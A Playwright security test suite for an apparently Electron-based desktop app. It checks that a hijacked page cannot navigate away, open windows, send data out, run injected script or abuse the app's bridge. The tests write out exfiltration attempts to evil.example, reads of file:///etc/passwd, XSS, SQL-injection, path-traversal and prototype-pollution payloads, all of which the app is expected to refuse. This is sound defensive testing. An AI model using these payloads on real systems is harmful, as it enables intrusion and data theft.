import { createSocket } from 'node:dgram';
import { type AddressInfo, createServer } from 'node:net';
import type { Page } from '@playwright/test';
import { findListeningPorts, listDescendants } from '../support/processes.ts';
import { expect, test } from './support/fixtures.ts';

test.use({ isAttack: true });

const ownPage = /^(?:https:\/\/sightline\.invalid|app:\/\/sightline)\/index\.html/;

/** The window is where it was, alive, and still answered. */
async function expectUnmoved(page: Page): Promise<void> {
  // Asked of the page itself: the driver goes on waiting for navigations that were refused.
  const isHome = `${ownPage}.test(location.href) && document.querySelector('nav[aria-label="Screens"]') !== null`;
  await expect.poll(() => page.evaluate(isHome).catch(() => false)).toBe(true);
  // A refused departure can take the page's script context along; what counts is that the window answers after it.
  const answer = () => call(page, { id: 1, method: 'app.info', input: null }).catch(() => null);
  await expect.poll(answer).toMatchObject({ id: 1, ok: true });
}

/** One message over the bridge, as a hijacked page could send it. */
function call(page: Page, message: unknown): Promise<unknown> {
  return send(page, JSON.stringify(message)).then((text) => JSON.parse(text));
}

/** @returns the answer, or `refused` when the shell did not let the message through. */
function send(page: Page, text: string): Promise<string> {
  return page.evaluate(async (message) => {
    const { workbench } = globalThis as unknown as { workbench: { call(text: string): Promise<string> } };
    return workbench.call(message).catch(() => '"refused"');
  }, text);
}

const departures: readonly { readonly name: string; readonly script: string }[] = [
  { name: 'a foreign site', script: "location.href = 'https://evil.example/'" },
  { name: 'a server on this machine', script: "location.href = 'http://127.0.0.1:9/'" },
  { name: 'a file', script: "location.href = 'file:///etc/passwd'" },
  { name: 'an empty page', script: "location.href = 'about:blank'" },
  { name: 'a data URL', script: "location.href = 'data:text/html,hello'" },
  {
    name: 'a page made by script',
    script: "location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' }))",
  },
  { name: 'script as an address', script: "location.href = 'javascript:document.body.remove()'" },
  { name: 'another path of ours', script: "location.href = '/assets/..%2f..%2f..%2fpackage.json'" },
  { name: 'a dotted path', script: "location.href = '/../../package.json'" },
  {
    name: 'a form',
    script:
      "const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit()",
  },
  { name: 'a reload of another place', script: "location.replace('https://evil.example/')" },
];

test('the window cannot be led away', async ({ page }) => {
  for (const { name, script } of departures) {
    await test.step(name, async () => {
      // The evaluation itself may be cut off by the attempt.
      await page.evaluate(script).catch(() => undefined);
      await expectUnmoved(page);
    });
  }
});

test('no second window, no frame, no worker', async ({ page }) => {
  await page.evaluate("void window.open('https://evil.example/')").catch(() => undefined);
  await page.evaluate("void window.open('about:blank')").catch(() => undefined);
  await expect.poll(() => page.context().pages().length).toBe(1);
  const made = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    const attempt = (make: () => unknown): string => {
      try {
        make();
        return 'made';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    await navigator.serviceWorker?.register('/sw.js').catch(() => undefined);
    const registrations = (await navigator.serviceWorker?.getRegistrations()) ?? [];
    return { worker: attempt(() => new Worker('data:text/javascript,1')), serviceWorkers: registrations.length };
  });
  expect(made.serviceWorkers).toBe(0);
  expect(made.worker).not.toBe('made');
  await expectUnmoved(page);
});

test('nothing leaves the window', async ({ page }) => {
  const listener = await startListener();
  const outcome = await page.evaluate(async (host) => {
    const failed = (promise: Promise<unknown>): Promise<string> =>
      promise.then(
        () => 'sent',
        () => 'refused',
      );
    const element = (made: HTMLElement, where: 'src' | 'href'): Promise<unknown> =>
      new Promise((resolve, reject) => {
        made.onload = resolve;
        made.onerror = reject;
        made.setAttribute(where, `http://${host}/${made.localName}`);
        document.head.append(made);
      });
    const socket = new Promise<unknown>((resolve, reject) => {
      const made = new WebSocket(`ws://${host}/`);
      made.onopen = resolve;
      made.onerror = reject;
    });
    // Whether a beacon was queued says nothing; the listener knows whether one came.
    navigator.sendBeacon(`http://${host}/beacon`, 'x');
    return {
      fetch: await failed(fetch(`http://${host}/fetch`)),
      foreign: await failed(fetch('https://evil.example/')),
      own: await failed(fetch('/index.html')),
      file: await failed(fetch('file:///etc/passwd')),
      socket: await failed(socket),
      image: await failed(element(new Image(), 'src')),
      style: await failed(element(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href')),
      preload: await failed(element(Object.assign(document.createElement('link'), { rel: 'modulepreload' }), 'href')),
    };
  }, listener.host);
  const kinds = ['fetch', 'foreign', 'own', 'file', 'socket', 'image', 'style', 'preload'];
  expect(outcome).toEqual(Object.fromEntries(kinds.map((kind) => [kind, 'refused'])));
  expect(listener.connections()).toBe(0);
  await listener.stop();
});

test('WebRTC, which the policy does not govern, reaches nobody either', async ({ page }) => {
  const [tcp, udp] = [await startListener(), await startUdpListener()];
  const state = await page.evaluate(
    async ([stun, turn]) => {
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${stun}` },
          { urls: `turn:${turn}?transport=tcp`, username: 'stolen', credential: 'data' },
          { urls: 'stun:stolen-data.evil.example' },
        ],
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      // Gathering ends by itself when there is no way out; with one it goes on.
      for (let turns = 0; turns < 100 && peer.iceGatheringState !== 'complete'; turns += 1) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return peer.iceGatheringState;
    },
    [udp.host, tcp.host],
  );
  expect(state).toBe('complete');
  expect([udp.packets(), tcp.connections()]).toEqual([0, 0]);
  await tcp.stop();
  await udp.stop();
});

/** A socket that only counts what arrives. */
async function startUdpListener() {
  let packets = 0;
  const socket = createSocket('udp4', () => {
    packets += 1;
  });
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  return {
    host: `127.0.0.1:${socket.address().port}`,
    packets: () => packets,
    stop: () => new Promise<void>((resolve) => socket.close(() => resolve())),
  };
}

/** A server that only counts who connects. */
async function startListener() {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // A TCP server's address is always an AddressInfo.
  const { port } = server.address() as AddressInfo;
  return {
    host: `127.0.0.1:${port}`,
    connections: () => connections,
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

test('text never becomes script', async ({ page }) => {
  const outcome = await page.evaluate(() => {
    const attempt = (run: () => unknown): string => {
      try {
        run();
        return 'ran';
      } catch {
        return 'refused';
      }
    };
    const script = document.createElement('script');
    return {
      markup: attempt(() => {
        document.body.innerHTML = '<img src=x onerror=alert(1)>';
      }),
      write: attempt(() => document.write('<p>x')),
      source: attempt(() => {
        script.text = 'alert(1)';
      }),
      policy: attempt(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('mine', {}),
      ),
    };
  });
  expect(outcome).toEqual({ markup: 'refused', write: 'refused', source: 'refused', policy: 'refused' });
});

test('the bridge is two frozen functions that cannot be replaced', async ({ page }) => {
  const shape = await page.evaluate(() => {
    const holder = globalThis as unknown as Record<string, unknown>;
    const workbench = holder['workbench'] as Record<string, unknown>;
    const attempt = (run: () => unknown): void => {
      try {
        run();
      } catch {
        // Strict code is told; sloppy code is ignored. Either way nothing changes.
      }
    };
    attempt(() => {
      holder['workbench'] = { call: () => 'mine' };
    });
    attempt(() => {
      workbench['call'] = () => 'mine';
    });
    attempt(() => delete holder['workbench']);
    return {
      isSame: holder['workbench'] === workbench,
      isFrozen: Object.isFrozen(workbench),
      members: Object.entries(workbench).map(([name, member]) => `${name} ${typeof member}`),
    };
  });
  expect(shape).toEqual({ isSame: true, isFrozen: true, members: ['call function', 'onEvent function'] });
});

test('the bridge refuses other frames', async ({ page }) => {
  const answers = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inner = frame.contentWindow as unknown as Record<string, unknown> | null;
    const message = JSON.stringify({ id: 1, method: 'app.info', input: null });
    const ways = [
      (inner?.['workbench'] as { call(text: string): Promise<string> } | undefined)?.call,
      inner?.['__sightlineCall'] as ((text: string) => Promise<string>) | undefined,
    ];
    return Promise.all(ways.map((way) => (way === undefined ? 'absent' : way(message).catch(() => 'refused'))));
  });
  for (const answer of answers) expect(['absent', 'refused']).toContain(answer);
  await expectUnmoved(page);
});

test('the bridge refuses what is too large, malformed or unknown, and lives on', async ({ page }) => {
  const huge = JSON.stringify({ id: 1, method: 'indicators.count', input: { query: 'x'.repeat(1_100_000) } });
  const deep = `{"id":1,"method":"app.info","input":${'['.repeat(200)}${']'.repeat(200)}}`;
  const polluting = '{"id":1,"method":"settings.set","input":{"__proto__":{"theme":"dark"}}}';
  for (const text of ['', 'null', '[]', '{', '"text"', huge, deep, polluting]) {
    const answer: unknown = JSON.parse(await send(page, text));
    if (answer !== 'refused') expect(answer).toMatchObject({ ok: false });
  }
  const refused = [
    { id: 1, method: 'constructor', input: {} },
    { id: 1, method: 'credentials.get', input: {} },
    { id: 1, method: 'exports.write', input: { path: '/etc/passwd' } },
    { id: 1, method: 'app.info', input: null, extra: true },
    { id: -1, method: 'app.info', input: null },
    { id: 1, method: 'observations.raw', input: { id: '1 OR 1=1' } },
    { id: 1, method: 'cases.get', input: { number: '../../etc/passwd' } },
  ];
  for (const message of refused) expect(await call(page, message)).toMatchObject({ ok: false });
  await expectUnmoved(page);
});

test('no answer holds a secret or a place outside', async ({ page }) => {
  const added = {
    name: 'Canary',
    vendor: 'virustotal',
    site: null,
    baseUrl: 'http://127.0.0.1:9',
    options: {},
    secret: { apiKey: `${'c0ffee'.repeat(10)}beef` },
    keepSecretIn: 'memory',
  };
  const answers = [
    await call(page, { id: 1, method: 'connections.add', input: added }),
    await call(page, { id: 2, method: 'connections.list', input: null }),
    await call(page, { id: 3, method: 'vault.status', input: null }),
    await call(page, { id: 4, method: 'settings.get', input: null }),
    await call(page, { id: 5, method: 'app.info', input: null }),
  ];
  for (const answer of answers) expect(answer).toMatchObject({ ok: true });
  expect(JSON.stringify(answers)).not.toContain('c0ffee');
});

test('neither shell nor browser listens on a port', async ({ window }) => {
  test.skip(process.platform !== 'linux' || window.name === 'electron', 'reads /proc; Electron’s driver opens a port');
  const tree = listDescendants(window.processId);
  expect(tree.length).toBeGreaterThan(2);
  expect(findListeningPorts([window.processId, ...tree])).toEqual([]);
});
